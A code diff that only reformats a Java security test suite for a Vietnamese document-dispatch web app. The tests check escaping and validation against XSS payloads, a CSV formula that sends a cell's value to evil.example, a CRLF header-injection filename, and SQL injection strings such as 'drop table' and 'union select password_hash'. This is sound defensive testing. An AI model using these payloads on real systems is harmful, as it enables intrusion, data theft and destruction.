@@ -11,12 +11,10 @@ import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Set;
-
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
-
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.context.ApplicationContext;
@@ -26,7 +24,6 @@ import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.mock.web.MockHttpServletResponse;
 import org.springframework.test.web.servlet.MockMvc;
 import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
-
 import vn.congvan.CongvanIntegrationTest;
 import vn.congvan.account.AccountManagement;
 import vn.congvan.account.Accounts;
@@ -111,14 +108,25 @@ class InputEncodingIntegrationTests {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "public page", "public list", "home", "inbox", "clerk page", "search" })
+    @ValueSource(strings = {"public page", "public list", "home", "inbox", "clerk page", "search"})
     void aSubjectAndBodyWithMarkupAreShownAsText(String page) throws Exception {
         String marker = "xss" + Units.uniqueCode("S").toLowerCase().replace("-", "");
-        Long id = management.createDraft(new vn.congvan.dispatch.DispatchDraft(vn.congvan.dispatch.DispatchFamily.PARTY,
-                "CV", world.clerk.unitId(), null, "Về việc " + marker + " " + IMG, "Đoạn " + marker + " " + SCRIPT,
-                null, vn.congvan.dispatch.Urgency.NORMAL, Visibility.PUBLIC, null, null,
-                List.of(vn.congvan.dispatch.Recipient.unit("Đơn vị nhận", world.recipientUnit.id())),
-                List.of()), world.clerk);
+        Long id = management.createDraft(
+                new vn.congvan.dispatch.DispatchDraft(
+                        vn.congvan.dispatch.DispatchFamily.PARTY,
+                        "CV",
+                        world.clerk.unitId(),
+                        null,
+                        "Về việc " + marker + " " + IMG,
+                        "Đoạn " + marker + " " + SCRIPT,
+                        null,
+                        vn.congvan.dispatch.Urgency.NORMAL,
+                        Visibility.PUBLIC,
+                        null,
+                        null,
+                        List.of(vn.congvan.dispatch.Recipient.unit("Đơn vị nhận", world.recipientUnit.id())),
+                        List.of()),
+                world.clerk);
         management.publish(id, null, LocalDate.now(), world.clerk);
 
         String html = switch (page) {
@@ -130,33 +138,45 @@ class InputEncodingIntegrationTests {
             default -> html(get("/tim-kiem").param("q", marker), null);
         };
 
-        assertThat(html).contains(marker).contains("&lt;img src=x onerror=alert(1)&gt;")
-                .doesNotContain(IMG).doesNotContain(SCRIPT);
+        assertThat(html)
+                .contains(marker)
+                .contains("&lt;img src=x onerror=alert(1)&gt;")
+                .doesNotContain(IMG)
+                .doesNotContain(SCRIPT);
     }
 
     @Test
     void aUnitNameWithMarkupIsTextOnTheUnitListAndTheLedger() throws Exception {
-        UnitSummary ward = Units.ward(administration, organization.unitByCode("QU-Q1").orElseThrow(),
-                "Đảng ủy phường " + SCRIPT, LocalDate.of(2025, 7, 1));
-        Long id = management.createDraft(DispatchDrafts.partyDispatch(world.clerk.unitId(), Visibility.RESTRICTED,
-                "Về việc tên đơn vị lạ", ward.id()), world.clerk);
+        UnitSummary ward = Units.ward(
+                administration,
+                organization.unitByCode("QU-Q1").orElseThrow(),
+                "Đảng ủy phường " + SCRIPT,
+                LocalDate.of(2025, 7, 1));
+        Long id = management.createDraft(
+                DispatchDrafts.partyDispatch(
+                        world.clerk.unitId(), Visibility.RESTRICTED, "Về việc tên đơn vị lạ", ward.id()),
+                world.clerk);
         management.publish(id, null, LocalDate.now(), world.clerk);
 
         // The unit tree shows a branch at a time: ask for the way down to the ward.
         assertThat(html(get("/quan-tri/don-vi").param("mo", ward.id().toString()), world.admin))
-                .contains("&lt;script&gt;").doesNotContain(SCRIPT);
-        assertThat(html(get("/quan-ly/cong-van/" + id + "/so-theo-doi"), world.clerk)).contains("&lt;script&gt;")
+                .contains("&lt;script&gt;")
+                .doesNotContain(SCRIPT);
+        assertThat(html(get("/quan-ly/cong-van/" + id + "/so-theo-doi"), world.clerk))
+                .contains("&lt;script&gt;")
                 .doesNotContain(SCRIPT);
     }
 
     @Test
     void aFileTitleWithMarkupIsText() throws Exception {
         Long id = world.draft(Visibility.PUBLIC, "Về việc tiêu đề tệp lạ");
-        attachments.attach(new NewAttachment(id, "Phụ lục \"><svg onload=alert(2)>", AttachmentKind.APPENDIX,
-                "phu-luc.pdf"), new ByteArrayInputStream(TestFiles.pdf(1)));
+        attachments.attach(
+                new NewAttachment(id, "Phụ lục \"><svg onload=alert(2)>", AttachmentKind.APPENDIX, "phu-luc.pdf"),
+                new ByteArrayInputStream(TestFiles.pdf(1)));
         management.publish(id, null, LocalDate.now(), world.clerk);
 
-        assertThat(html(get("/tai-lieu-tuyen-truyen/" + id), null)).contains("&lt;svg onload=alert(2)&gt;")
+        assertThat(html(get("/tai-lieu-tuyen-truyen/" + id), null))
+                .contains("&lt;svg onload=alert(2)&gt;")
                 .doesNotContain("<svg onload");
         assertThat(html(get("/quan-ly/cong-van/" + id), world.clerk)).doesNotContain("<svg onload");
     }
@@ -164,34 +184,63 @@ class InputEncodingIntegrationTests {
     @Test
     void anAccountsFullNameWithMarkupIsTextOnTheAccountListAndInTheHeaderOfItsOwnPages() throws Exception {
         String username = Accounts.uniqueUsername("ten-la");
-        accounts.open(new NewAccount(username, "Cán bộ " + SCRIPT, null, world.recipientUnit.id(),
-                Set.of(Role.MEMBER), Accounts.DEMO_PASSWORD));
-        CurrentUser self = new CurrentUser(null, username, "{noop}unused", "Cán bộ " + SCRIPT,
-                world.recipientUnit.id(), Set.of(Role.MEMBER), true);
+        accounts.open(new NewAccount(
+                username,
+                "Cán bộ " + SCRIPT,
+                null,
+                world.recipientUnit.id(),
+                Set.of(Role.MEMBER),
+                Accounts.DEMO_PASSWORD));
+        CurrentUser self = new CurrentUser(
+                null,
+                username,
+                "{noop}unused",
+                "Cán bộ " + SCRIPT,
+                world.recipientUnit.id(),
+                Set.of(Role.MEMBER),
+                true);
 
-        assertThat(html(get("/quan-tri/tai-khoan"), world.admin)).contains(username).doesNotContain(SCRIPT);
+        assertThat(html(get("/quan-tri/tai-khoan"), world.admin))
+                .contains(username)
+                .doesNotContain(SCRIPT);
         assertThat(html(get("/hop-thu"), self)).doesNotContain(SCRIPT);
     }
 
     @Test
     void aSearchPassageKeepsOnlyItsOwnMarkEvenWhenTheTextCarriesMarkOrTheMarkersItself() throws Exception {
         String marker = "passage" + Units.uniqueCode("P").toLowerCase().replace("-", "");
-        Long id = management.createDraft(new vn.congvan.dispatch.DispatchDraft(vn.congvan.dispatch.DispatchFamily.PARTY,
-                "CV", world.clerk.unitId(), null, "Về việc đoạn trích", "Nội dung " + marker
-                        + " <mark onmouseover=alert(3)>x</mark> \uE000<b onclick=alert(4)>y</b>\uE001 " + marker,
-                null, vn.congvan.dispatch.Urgency.NORMAL, Visibility.PUBLIC, null, null,
-                List.of(vn.congvan.dispatch.Recipient.unit("Đơn vị nhận", world.recipientUnit.id())),
-                List.of()), world.clerk);
+        Long id = management.createDraft(
+                new vn.congvan.dispatch.DispatchDraft(
+                        vn.congvan.dispatch.DispatchFamily.PARTY,
+                        "CV",
+                        world.clerk.unitId(),
+                        null,
+                        "Về việc đoạn trích",
+                        "Nội dung " + marker
+                                + " <mark onmouseover=alert(3)>x</mark> \uE000<b onclick=alert(4)>y</b>\uE001 "
+                                + marker,
+                        null,
+                        vn.congvan.dispatch.Urgency.NORMAL,
+                        Visibility.PUBLIC,
+                        null,
+                        null,
+                        List.of(vn.congvan.dispatch.Recipient.unit("Đơn vị nhận", world.recipientUnit.id())),
+                        List.of()),
+                world.clerk);
         management.publish(id, null, LocalDate.now(), world.clerk);
 
         String html = html(get("/tim-kiem").param("q", marker), null);
 
-        assertThat(html).contains("<mark>" + marker + "</mark>").contains("&lt;mark onmouseover=alert(3)&gt;")
-                .doesNotContain("<mark onmouseover").doesNotContain("<b onclick");
+        assertThat(html)
+                .contains("<mark>" + marker + "</mark>")
+                .contains("&lt;mark onmouseover=alert(3)&gt;")
+                .doesNotContain("<mark onmouseover")
+                .doesNotContain("<b onclick");
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "\"><script>alert(5)</script>", "' onfocus='alert(6)", "</textarea><script>alert(7)</script>" })
+    @ValueSource(
+            strings = {"\"><script>alert(5)</script>", "' onfocus='alert(6)", "</textarea><script>alert(7)</script>"})
     void theSearchBoxGivesBackWhatWasTypedAsText(String typed) throws Exception {
         String html = html(get("/tim-kiem").param("q", typed), null);
 
@@ -200,33 +249,44 @@ class InputEncodingIntegrationTests {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "/tai-lieu-tuyen-truyen/%3Cscript%3Ealert(8)%3C%5Cscript%3E",
-            "/tai-lieu-tuyen-truyen?trang=%3Cscript%3Ealert(8)%3C%2Fscript%3E",
-            "/tim-kiem?nam=%3Cscript%3Ealert(8)%3C%2Fscript%3E" })
+    @ValueSource(
+            strings = {
+                "/tai-lieu-tuyen-truyen/%3Cscript%3Ealert(8)%3C%5Cscript%3E",
+                "/tai-lieu-tuyen-truyen?trang=%3Cscript%3Ealert(8)%3C%2Fscript%3E",
+                "/tim-kiem?nam=%3Cscript%3Ealert(8)%3C%2Fscript%3E"
+            })
     void errorPagesDoNotEchoTheRequest(String path) throws Exception {
         HttpResponse<String> response = new WebClient(port).get(path);
 
         assertThat(response.statusCode()).isBetween(400, 499);
         // The language link may carry the query string, percent-encoded: text in a URL, never markup.
-        assertThat(response.body()).doesNotContain("<script>alert(8)").doesNotContain("alert(8)</script>")
+        assertThat(response.body())
+                .doesNotContain("<script>alert(8)")
+                .doesNotContain("alert(8)</script>")
                 .doesNotContain("<script>alert(8)<\\script>");
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "=", "+", "-", "@", "\t", "\r" })
+    @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
     void ledgerExportCellsNeverStartAFormula(String lead) throws Exception {
         String formula = lead + "HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")";
-        UnitSummary ward = Units.ward(administration, organization.unitByCode("QU-Q1").orElseThrow(),
-                "Đảng ủy phường Công thức", LocalDate.of(2025, 7, 1));
+        UnitSummary ward = Units.ward(
+                administration,
+                organization.unitByCode("QU-Q1").orElseThrow(),
+                "Đảng ủy phường Công thức",
+                LocalDate.of(2025, 7, 1));
         if (!Character.isISOControl(lead.charAt(0))) {
-            ward = administration.editUnit(ward.id(), administration.unitForEditing(ward.id()).version(),
+            ward = administration.editUnit(
+                    ward.id(),
+                    administration.unitForEditing(ward.id()).version(),
                     new vn.congvan.organization.UnitDetails(formula, null, null, null));
         }
-        Long id = management.createDraft(DispatchDrafts.partyDispatch(world.clerk.unitId(), Visibility.RESTRICTED,
-                "Về việc xuất sổ", ward.id()), world.clerk);
+        Long id = management.createDraft(
+                DispatchDrafts.partyDispatch(world.clerk.unitId(), Visibility.RESTRICTED, "Về việc xuất sổ", ward.id()),
+                world.clerk);
         management.publish(id, null, LocalDate.now(), world.clerk);
-        CurrentUser reader = new CurrentUser(null, formula, "{noop}unused", "Người đọc", ward.id(),
-                Set.of(Role.MEMBER), true);
+        CurrentUser reader =
+                new CurrentUser(null, formula, "{noop}unused", "Người đọc", ward.id(), Set.of(Role.MEMBER), true);
         ledger.recordViewed(id, viewers.of(reader));
         ledger.acknowledge(id, viewers.of(reader));
 
@@ -245,11 +305,12 @@ class InputEncodingIntegrationTests {
     void aFileNameCannotSplitOrExtendTheContentDispositionHeader() throws Exception {
         Long id = world.draft(Visibility.RESTRICTED, "Về việc tên tệp phá tiêu đề");
         String name = "bao\"cao\\\"; filename=evil.html; x=\".pdf";
-        AttachmentView file = attachments.attach(new NewAttachment(id, "Báo cáo", AttachmentKind.APPENDIX, name),
+        AttachmentView file = attachments.attach(
+                new NewAttachment(id, "Báo cáo", AttachmentKind.APPENDIX, name),
                 new ByteArrayInputStream(TestFiles.pdf(1)));
 
-        MockHttpServletResponse response = perform(get("/quan-ly/cong-van/" + id + "/tep/" + file.id() + "/tai-ve"),
-                world.clerk);
+        MockHttpServletResponse response =
+                perform(get("/quan-ly/cong-van/" + id + "/tep/" + file.id() + "/tai-ve"), world.clerk);
 
         ContentDisposition disposition = ContentDisposition.parse(response.getHeader("Content-Disposition"));
         assertThat(disposition.getType()).isEqualTo("attachment");
@@ -258,7 +319,9 @@ class InputEncodingIntegrationTests {
         assertThat(disposition.getFilename()).isEqualTo(file.originalFilename()).contains("filename=evil.html");
         String header = response.getHeader("Content-Disposition");
         String fallback = header.substring(0, header.indexOf("; filename*="));
-        assertThat(ContentDisposition.parse(fallback).getFilename()).endsWith(".pdf").doesNotContain("\"");
+        assertThat(ContentDisposition.parse(fallback).getFilename())
+                .endsWith(".pdf")
+                .doesNotContain("\"");
         assertThat(response.getContentType()).isEqualTo("application/pdf");
     }
 
@@ -268,37 +331,58 @@ class InputEncodingIntegrationTests {
         String name = "bao-cao\r\nSet-Cookie: owned=1\r\nX-Evil: 1.pdf";
         AttachmentView file;
         try {
-            file = attachments.attach(new NewAttachment(id, "Báo cáo", AttachmentKind.APPENDIX, name),
+            file = attachments.attach(
+                    new NewAttachment(id, "Báo cáo", AttachmentKind.APPENDIX, name),
                     new ByteArrayInputStream(TestFiles.pdf(1)));
-        }
-        catch (RuntimeException refused) {
+        } catch (RuntimeException refused) {
             assertThat(attachments.ofDispatch(id)).isEmpty();
             return;
         }
 
-        HttpResponse<String> response = logInAsIssuingClerkAndGet("/quan-ly/cong-van/" + id + "/tep/" + file.id()
-                + "/tai-ve");
+        HttpResponse<String> response =
+                logInAsIssuingClerkAndGet("/quan-ly/cong-van/" + id + "/tep/" + file.id() + "/tai-ve");
 
         assertThat(response.statusCode()).isEqualTo(200);
         assertThat(response.headers().firstValue("Set-Cookie")).isEmpty();
         assertThat(response.headers().firstValue("X-Evil")).isEmpty();
-        assertThat(response.headers().firstValue("Content-Disposition")).hasValueSatisfying(
-                header -> assertThat(header).doesNotContain("\r", "\n"));
+        assertThat(response.headers().firstValue("Content-Disposition"))
+                .hasValueSatisfying(header -> assertThat(header).doesNotContain("\r", "\n"));
     }
 
     @ParameterizedTest
-    @ValueSource(strings = { "'; drop table dispatch; --", "' or '1'='1", "%", "_", "%%", "\\", "\\\\'", "!", "&",
-            "|", ":*", "()", "a:* | !b & (c)", "!!(", "<->", "*", "' union select password_hash from account --" })
+    @ValueSource(
+            strings = {
+                "'; drop table dispatch; --",
+                "' or '1'='1",
+                "%",
+                "_",
+                "%%",
+                "\\",
+                "\\\\'",
+                "!",
+                "&",
+                "|",
+                ":*",
+                "()",
+                "a:* | !b & (c)",
+                "!!(",
+                "<->",
+                "*",
+                "' union select password_hash from account --"
+            })
     void searchInputThatLooksLikeSqlOrOperatorsNeitherFailsNorMatchesEverything(String typed) throws Exception {
         long everything = catalog.publicDispatches(PageRequest.of(0, 1)).getTotalElements();
 
-        assertThat(perform(get("/tim-kiem").param("q", typed), null).getStatus()).isEqualTo(200);
-        long hits = search.search(new SearchQuery(typed, null, null, null, null, null), Viewer.anonymous(), PageRequest.of(0, 1))
+        assertThat(perform(get("/tim-kiem").param("q", typed), null).getStatus())
+                .isEqualTo(200);
+        long hits = search.search(
+                        new SearchQuery(typed, null, null, null, null, null), Viewer.anonymous(), PageRequest.of(0, 1))
                 .getTotalElements();
 
         assertThat(everything).isPositive();
         assertThat(hits).isLessThan(everything);
-        assertThat(jdbc.queryForObject("select count(*) from dispatch", Long.class)).isPositive();
+        assertThat(jdbc.queryForObject("select count(*) from dispatch", Long.class))
+                .isPositive();
     }
 
     /** RFC 4180, as a spreadsheet program reads it. */
@@ -313,29 +397,23 @@ class InputEncodingIntegrationTests {
                 if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                     cell.append('"');
                     i++;
-                }
-                else if (c == '"') {
+                } else if (c == '"') {
                     quoted = false;
-                }
-                else {
+                } else {
                     cell.append(c);
                 }
-            }
-            else if (c == '"') {
+            } else if (c == '"') {
                 quoted = true;
-            }
-            else if (c == ',') {
+            } else if (c == ',') {
                 row.add(cell.toString());
                 cell.setLength(0);
-            }
-            else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
+            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                 row.add(cell.toString());
                 cell.setLength(0);
                 rows.add(row);
                 row = new ArrayList<>();
                 i++;
-            }
-            else {
+            } else {
                 cell.append(c);
             }
         }
